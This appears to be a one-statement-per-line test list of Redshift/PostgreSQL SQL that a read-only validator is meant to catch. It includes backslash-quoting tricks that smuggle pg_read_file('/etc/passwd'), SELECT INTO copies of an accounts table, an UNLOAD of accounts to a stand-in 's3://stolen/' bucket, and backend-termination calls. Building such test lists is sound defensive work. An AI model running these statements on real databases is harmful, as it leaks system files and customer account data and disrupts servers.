-- Statements that Redshift or a server whose strings know no backslashes would
-- take apart otherwise than they look, and that write. One a line.
SELECT '\'' || pg_read_file('/etc/passwd') -- '
SELECT '\' || pg_read_file('/etc/passwd') -- '
SELECT 'a\\\' || pg_read_file('/etc/passwd') -- '
SELECT '\', pg_sleep(1), '\''
SELECT E'\'' || pg_read_file('/etc/passwd') -- '
SELECT * INTO stolen FROM accounts
SELECT * INTO TEMP stolen FROM accounts
SELECT 1 AS a into stolen
UNLOAD ('SELECT * FROM accounts') TO 's3://stolen/' IAM_ROLE default
COPY accounts FROM 's3://stolen/' IAM_ROLE default
CALL spend()
CREATE EXTERNAL SCHEMA stolen FROM DATA CATALOG DATABASE 'x' IAM_ROLE default
CREATE EXTERNAL FUNCTION stolen() RETURNS int STABLE LAMBDA 'x' IAM_ROLE default
CREATE DATASHARE stolen
CREATE MODEL stolen FROM accounts TARGET balance FUNCTION f IAM_ROLE default
SELECT pg_terminate_backend(1)
SELECT set_config('search_path', 'x', false)
EXPLAIN SELECT * INTO stolen FROM accounts
WITH a AS (SELECT 1) SELECT * INTO stolen FROM a
